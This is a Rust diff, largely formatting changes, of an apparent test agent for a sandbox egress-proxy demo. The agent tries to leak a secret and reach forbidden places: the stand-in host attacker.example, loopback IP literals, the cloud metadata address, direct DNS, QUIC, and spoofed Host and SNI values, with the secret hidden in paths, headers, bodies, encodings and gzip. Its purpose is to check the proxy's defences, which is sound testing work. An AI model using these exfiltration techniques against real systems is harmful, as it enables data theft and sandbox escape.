@@ -2,9 +2,9 @@
 //!
 //! It prints one JSON line an attack on stdout. What it says counts little: the host's origin and canaries decide.
 
+use crate::exit::Exit;
 use std::io::{BufRead, Write};
 use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
-use crate::exit::Exit;
 use std::time::Duration;
 
 use serde::{Deserialize, Serialize};
@@ -103,11 +103,19 @@ impl Row {
 
 /// The hidden command that the demo's bottle runs.
 pub fn main() -> Exit {
-    let briefing = std::env::var(BRIEFING).ok().and_then(|text| serde_json::from_str::<Briefing>(&text).ok());
+    let briefing = std::env::var(BRIEFING)
+        .ok()
+        .and_then(|text| serde_json::from_str::<Briefing>(&text).ok());
     let (Some(briefing), Ok(proxy)) = (briefing, Proxy::from_environment()) else {
         return Exit::Failed;
     };
-    match (Agent { briefing, proxy, count: 0 }).run() {
+    match (Agent {
+        briefing,
+        proxy,
+        count: 0,
+    })
+    .run()
+    {
         Ok(()) => Exit::Ok,
         Err(_) => Exit::Failed,
     }
@@ -136,17 +144,36 @@ impl Agent {
         self.after_the_kill()
     }
 
-    fn attempt(&mut self, row: Row, what: &str, act: impl FnOnce(&Self, &str) -> Seen) -> std::io::Result<()> {
+    fn attempt(
+        &mut self,
+        row: Row,
+        what: &str,
+        act: impl FnOnce(&Self, &str) -> Seen,
+    ) -> std::io::Result<()> {
         self.count += 1;
         let marker = format!("attempt-{:03}-of-the-demo", self.count);
         let (through, saw) = act(self, &marker).unwrap_or_else(|error| (false, error.to_string()));
-        let saw = saw.lines().next().unwrap_or_default().chars().take(200).collect();
-        say(&Line::Done(Attempt { marker, row, what: what.to_owned(), saw, through }))
+        let saw = saw
+            .lines()
+            .next()
+            .unwrap_or_default()
+            .chars()
+            .take(200)
+            .collect();
+        say(&Line::Done(Attempt {
+            marker,
+            row,
+            what: what.to_owned(),
+            saw,
+            through,
+        }))
     }
 
     fn get(&self, marker: &str, target: &str, extra: &str) -> Seen {
         let origin = &self.briefing.origin;
-        let request = format!("GET {target} HTTP/1.1\r\nHost: {origin}\r\nX-Attempt: {marker}\r\n{extra}Connection: close\r\n\r\n");
+        let request = format!(
+            "GET {target} HTTP/1.1\r\nHost: {origin}\r\nX-Attempt: {marker}\r\n{extra}Connection: close\r\n\r\n"
+        );
         seen(&self.proxy.request(origin, request.as_bytes(), false)?)
     }
 
@@ -162,17 +189,34 @@ impl Agent {
     }
 
     fn controls(&mut self) -> std::io::Result<()> {
-        self.attempt(Row::ControlAllowed, "GET", |agent, marker| agent.get(marker, "/", ""))?;
+        self.attempt(Row::ControlAllowed, "GET", |agent, marker| {
+            agent.get(marker, "/", "")
+        })?;
         self.attempt(Row::ControlAllowed, "POST", |agent, marker| {
-            agent.post(marker, "/", "Content-Type: text/plain\r\n", b"nothing secret in here", false)
+            agent.post(
+                marker,
+                "/",
+                "Content-Type: text/plain\r\n",
+                b"nothing secret in here",
+                false,
+            )
         })?;
         self.attempt(Row::ControlAllowlist, "GET", |agent, _| {
-            seen(&agent.proxy.plain("http://_egress.local/allowlist", "_egress.local")?)
+            seen(
+                &agent
+                    .proxy
+                    .plain("http://_egress.local/allowlist", "_egress.local")?,
+            )
         })
     }
 
     fn hosts(&mut self) -> std::io::Result<()> {
-        let port = self.briefing.origin.rsplit_once(':').map_or("443", |(_, port)| port).to_owned();
+        let port = self
+            .briefing
+            .origin
+            .rsplit_once(':')
+            .map_or("443", |(_, port)| port)
+            .to_owned();
         for host in ["attacker.example", "demo-origin.test.attacker.example"] {
             self.attempt(Row::DeniedHost, host, |agent, _| {
                 let authority = format!("{host}:{port}");
@@ -180,7 +224,11 @@ impl Agent {
             })?;
         }
         self.attempt(Row::DeniedHost, "over plain HTTP", |agent, _| {
-            seen(&agent.proxy.plain("http://attacker.example/", "attacker.example")?)
+            seen(
+                &agent
+                    .proxy
+                    .plain("http://attacker.example/", "attacker.example")?,
+            )
         })?;
         for literal in ["127.0.0.1", "127.1", "2130706433", "[::ffff:127.0.0.1]"] {
             self.attempt(Row::IpLiteral, literal, |agent, _| {
@@ -189,18 +237,30 @@ impl Agent {
             })?;
         }
         self.attempt(Row::IpLiteral, "spoofed Host", |agent, _| {
-            seen(&agent.proxy.connect(&format!("127.0.0.1:{port}"), &agent.briefing.origin)?.1)
+            seen(
+                &agent
+                    .proxy
+                    .connect(&format!("127.0.0.1:{port}"), &agent.briefing.origin)?
+                    .1,
+            )
         })?;
         self.attempt(Row::SecretInHostName, "a label", |agent, _| {
-            let authority = format!("{}.{}:{port}", agent.briefing.secret, agent.briefing.wildcard);
+            let authority = format!(
+                "{}.{}:{port}",
+                agent.briefing.secret, agent.briefing.wildcard
+            );
             seen(&agent.proxy.connect(&authority, &authority)?.1)
         })
     }
 
     fn secrets(&mut self) -> std::io::Result<()> {
         let secret = self.briefing.secret.clone();
-        self.attempt(Row::SecretPlain, "path", |agent, marker| agent.get(marker, &format!("/{secret}"), ""))?;
-        self.attempt(Row::SecretPlain, "query", |agent, marker| agent.get(marker, &format!("/?q={secret}"), ""))?;
+        self.attempt(Row::SecretPlain, "path", |agent, marker| {
+            agent.get(marker, &format!("/{secret}"), "")
+        })?;
+        self.attempt(Row::SecretPlain, "query", |agent, marker| {
+            agent.get(marker, &format!("/?q={secret}"), "")
+        })?;
         self.attempt(Row::SecretPlain, "header", |agent, marker| {
             agent.get(marker, "/", &format!("X-Note: {secret}\r\n"))
         })?;
@@ -208,12 +268,24 @@ impl Agent {
             agent.get(marker, "/", &format!("{secret}: x\r\n"))
         })?;
         self.attempt(Row::SecretPlain, "body", |agent, marker| {
-            agent.post(marker, "/", "", format!("{{\"note\":\"{secret}\"}}").as_bytes(), false)
+            agent.post(
+                marker,
+                "/",
+                "",
+                format!("{{\"note\":\"{secret}\"}}").as_bytes(),
+                false,
+            )
         })?;
         for (name, encoded) in encode::all(&secret) {
             self.attempt(Row::SecretEncoded, name, |agent, marker| {
                 let body = [b"{\"note\":\"", encoded.as_slice(), b"\"}"].concat();
-                agent.post(marker, "/", "Content-Type: application/octet-stream\r\n", &body, false)
+                agent.post(
+                    marker,
+                    "/",
+                    "Content-Type: application/octet-stream\r\n",
+                    &body,
+                    false,
+                )
             })?;
         }
         let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
@@ -222,9 +294,11 @@ impl Agent {
         self.attempt(Row::SecretCompressed, "gzip", |agent, marker| {
             agent.post(marker, "/", "Content-Encoding: gzip\r\n", &gzip, false)
         })?;
-        self.attempt(Row::SecretCompressed, "an unknown coding", |agent, marker| {
-            agent.post(marker, "/", "Content-Encoding: x-secret\r\n", &gzip, false)
-        })?;
+        self.attempt(
+            Row::SecretCompressed,
+            "an unknown coding",
+            |agent, marker| agent.post(marker, "/", "Content-Encoding: x-secret\r\n", &gzip, false),
+        )?;
         self.attempt(Row::GitPush, "git-receive-pack", |agent, marker| {
             agent.post(marker, "/repo.git/git-receive-pack", "", b"0000", false)
         })
@@ -233,13 +307,21 @@ impl Agent {
     fn protocols(&mut self) -> std::io::Result<()> {
         let origin = self.briefing.origin.clone();
         for (what, bytes) in [
-            ("a plain POST", format!("POST / HTTP/1.1\r\nHost: {origin}\r\nContent-Length: 2\r\n\r\n")),
+            (
+                "a plain POST",
+                format!("POST / HTTP/1.1\r\nHost: {origin}\r\nContent-Length: 2\r\n\r\n"),
+            ),
             ("SSH", "SSH-2.0-demo\r\n".to_owned()),
-            ("HTTP/2 in clear", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned()),
+            (
+                "HTTP/2 in clear",
+                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
+            ),
             ("binary", "\u{0}\u{1}\u{2}".to_owned()),
         ] {
             self.attempt(Row::RawProtocol, what, |agent, marker| {
-                let (mut stream, _) = agent.proxy.connect(&agent.briefing.origin, &agent.briefing.origin)?;
+                let (mut stream, _) = agent
+                    .proxy
+                    .connect(&agent.briefing.origin, &agent.briefing.origin)?;
                 stream.write_all(format!("{bytes}{marker}{}", agent.briefing.secret).as_bytes())?;
                 seen(&client::answer(&client::read_to_end(&mut stream)))
             })?;
@@ -253,7 +335,9 @@ impl Agent {
             seen(&agent.proxy.request(&agent.briefing.origin, request.as_bytes(), false)?)
         })?;
         self.attempt(Row::HostMismatch, "SNI", |agent, marker| {
-            let mut stream = agent.proxy.tls(&agent.briefing.origin, "attacker.example", false)?;
+            let mut stream = agent
+                .proxy
+                .tls(&agent.briefing.origin, "attacker.example", false)?;
             stream.write_all(marker.as_bytes())?;
             seen(&client::answer(&client::read_to_end(&mut stream)))
         })
@@ -261,16 +345,28 @@ impl Agent {
 
     fn network(&mut self) -> std::io::Result<()> {
         for canary in self.briefing.canaries.clone() {
-            self.attempt(Row::HostLoopback, &canary.to_string(), |_, _| reached(canary))?;
-            self.attempt(Row::Udp, &canary.to_string(), |_, marker| datagram(canary, marker.as_bytes()))?;
+            self.attempt(Row::HostLoopback, &canary.to_string(), |_, _| {
+                reached(canary)
+            })?;
+            self.attempt(Row::Udp, &canary.to_string(), |_, marker| {
+                datagram(canary, marker.as_bytes())
+            })?;
         }
         let metadata = SocketAddr::V4(SocketAddrV4::new(Ipv4Addr::new(169, 254, 169, 254), 80));
-        self.attempt(Row::HostLoopback, "169.254.169.254", |_, _| reached(metadata))?;
+        self.attempt(Row::HostLoopback, "169.254.169.254", |_, _| {
+            reached(metadata)
+        })?;
         // Documentation addresses (RFC 5737): even where a route existed, nobody is there.
         let outside = Ipv4Addr::new(192, 0, 2, 53);
-        self.attempt(Row::DirectDns, "over UDP", |_, _| datagram((outside, 53).into(), &dns_query()))?;
-        self.attempt(Row::DirectDns, "over TCP", |_, _| reached((outside, 53).into()))?;
-        self.attempt(Row::Udp, "QUIC", |_, marker| datagram((outside, 443).into(), marker.as_bytes()))
+        self.attempt(Row::DirectDns, "over UDP", |_, _| {
+            datagram((outside, 53).into(), &dns_query())
+        })?;
+        self.attempt(Row::DirectDns, "over TCP", |_, _| {
+            reached((outside, 53).into())
+        })?;
+        self.attempt(Row::Udp, "QUIC", |_, marker| {
+            datagram((outside, 443).into(), marker.as_bytes())
+        })
     }
 
     fn files(&mut self) -> std::io::Result<()> {
@@ -284,14 +380,26 @@ impl Agent {
             let foreign = std::fs::read_dir("/proc")?
                 .filter_map(|entry| std::fs::read(entry.ok()?.path().join("cmdline")).ok())
                 .any(|line| line.windows(9).any(|window| window == b"__sidecar"));
-            Ok((foreign, if foreign { "the sidecar is visible" } else { "none" }.into()))
+            Ok((
+                foreign,
+                if foreign {
+                    "the sidecar is visible"
+                } else {
+                    "none"
+                }
+                .into(),
+            ))
         })
     }
 
     fn after_the_kill(&mut self) -> std::io::Result<()> {
-        self.attempt(Row::SidecarKilled, "through the proxy", |agent, marker| agent.get(marker, "/", ""))?;
+        self.attempt(Row::SidecarKilled, "through the proxy", |agent, marker| {
+            agent.get(marker, "/", "")
+        })?;
         for canary in self.briefing.canaries.clone() {
-            self.attempt(Row::SidecarKilled, &canary.to_string(), |_, _| reached(canary))?;
+            self.attempt(Row::SidecarKilled, &canary.to_string(), |_, _| {
+                reached(canary)
+            })?;
         }
         Ok(())
     }
@@ -302,12 +410,24 @@ fn seen(answer: &client::Answer) -> Seen {
         .text
         .split_once("\r\n\r\n")
         .and_then(|(_, body)| serde_json::from_str::<serde_json::Value>(body).ok())
-        .and_then(|body| Some(format!("{} {}", body.get("code")?.as_str()?, body.get("reason")?.as_str()?)));
+        .and_then(|body| {
+            Some(format!(
+                "{} {}",
+                body.get("code")?.as_str()?,
+                body.get("reason")?.as_str()?
+            ))
+        });
     let saw = match (answer.status, code) {
         (0, _) => "the connection was closed".into(),
         (status, Some(code)) => format!("{status} {code}"),
         // For CONNECT the reason stands in the status line, where most clients show it.
-        (_, None) => answer.text.lines().next().unwrap_or_default().trim_start_matches("HTTP/1.1 ").to_owned(),
+        (_, None) => answer
+            .text
+            .lines()
+            .next()
+            .unwrap_or_default()
+            .trim_start_matches("HTTP/1.1 ")
+            .to_owned(),
     };
     Ok((answer.status == 200, saw))
 }
